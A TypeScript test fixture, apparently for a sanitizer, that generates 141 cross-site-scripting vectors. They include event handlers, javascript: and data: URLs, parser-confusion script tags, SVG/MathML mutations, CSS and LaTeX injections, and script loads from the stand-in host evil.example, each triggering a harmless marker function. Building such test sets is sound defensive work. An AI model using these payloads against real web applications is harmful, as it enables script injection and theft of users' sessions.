/** Name of a function that a page must never call: the journeys give it to every page. */
export const alarm = 'scriptRan';
const run = `${alarm}(1)`;

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbeforetoggle',
  'ontransitionend',
];
const holders = [
  'img src=x',
  'p',
  'a href=#',
  'span data-type=inline-math data-latex=x',
  'td',
  'video',
  'details open',
  'svg',
  'body',
  'input autofocus',
];
/** tags × handlers, each handler with another tag first so that none is met twice in the same form */
const handled = handlers.flatMap((handler, turn) =>
  [0, 3, 6].map((step) => `<${holders[(turn + step) % holders.length] ?? 'p'} ${handler}="${run}">x`),
);

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `\u0001javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5zY3JpcHRSYW4oMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `//evil.example/x`,
  `https://evil.example/x.png`,
  `blob:${run}`,
  `file:///etc/passwd`,
  `../../../api/sys/user/logout`,
];
const addressed = addresses.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}">`]);

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script >${run}</script >`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script type=module>${run}</script>`,
  `<script>${run}`,
  `</p><script>${run}</script><p>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<textarea></textarea><script>${run}</script>`,
  `<title></title><script>${run}</script>`,
  `<style><img src="</style><img src=x onerror=${run}//">`,
  `<template><script>${run}</script></template>`,
  `<xmp><script>${run}</script></xmp>`,
  `<plaintext><script>${run}</script>`,
  `<listing>&lt;script&gt;${run}&lt;/script&gt;</listing>`,
  `<!--><script>${run}</script>-->`,
  `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
];
const embedded = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code=x></applet>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input type=image src=x onerror=${run}>`,
  `<isindex action="javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<frameset onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<audio src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<keygen autofocus onfocus=${run}>`,
  `<dialog open onclose=${run}>x</dialog>`,
];
const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run} />#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
];
const styled = [
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<td style="text-align:center;background:url(//evil.example/x)">x</td>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<span data-type="inline-math" data-latex="\\href{javascript:${run}}{x}"></span>`,
  `<span data-type="inline-math" data-latex="\\htmlData{x=&quot; onmouseover=${run} &quot;}{y}"></span>`,
  `<div data-type="block-math" data-latex="\\includegraphics{javascript:${run}}"></div>`,
  `<span data-type="inline-math" data-latex="x&quot;><img src=x onerror=${run}>"></span>`,
  `$\\href{javascript:${run}}{x}$`,
  `$\\url{javascript:${run}}$`,
  `$<img src=x onerror=${run}>$`,
  `$$\\htmlClass{x}{<script>${run}</script>}$$`,
];
const quoted = [
  `"><img src=x onerror=${run}>`,
  `'><script>${run}</script>`,
  `</textarea><img src=x onerror=${run}>`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<img/src/onerror=${run}>`,
  `<img\u00a0src=x\u2028onerror=${run}>`,
];

/** 141 ways to bring a script, a foreign address or a style into a text; the rows of security.md ask for 120. */
export const vectors: readonly string[] = [...handled, ...addressed, ...scripts, ...embedded, ...foreign, ...styled, ...quoted];
